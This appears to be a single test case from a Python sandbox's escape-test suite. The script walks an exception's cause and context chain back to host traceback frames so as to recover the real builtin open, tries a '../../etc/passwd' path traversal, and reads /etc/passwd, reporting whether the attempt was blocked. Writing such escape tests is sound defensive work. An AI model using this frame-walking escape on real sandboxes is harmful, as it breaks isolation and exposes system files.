# goal: walk __context__ and __cause__ of an exception raised inside the API back to the host exception and its traceback frames, whose globals hold os
# capability: file
# stopped-by: language, landlock
chain = []
try:
    openfile("../../etc/passwd", False)
except Exception as error:
    link = error
    while link is not None and len(chain) < 10:
        chain.append(link)
        link = link.__cause__ or link.__context__
print("exception chain:", [type(link).__name__ for link in chain])
opener = None
for link in chain:
    trace = link.__traceback__
    while trace is not None and opener is None:
        namespace = trace.tb_frame.f_globals
        if namespace.get("__name__") != "program":
            opener = trace.tb_frame.f_builtins.get("open")
        trace = trace.tb_next
if opener is None:
    print("blocked: no host frame reachable from the exception chain")
else:
    try:
        data = opener("/etc/passwd", "rb").read(64)
    except OSError as error:
        print("blocked:", error)
    else:
        print("ESCAPED: read /etc/passwd:", data[:16])
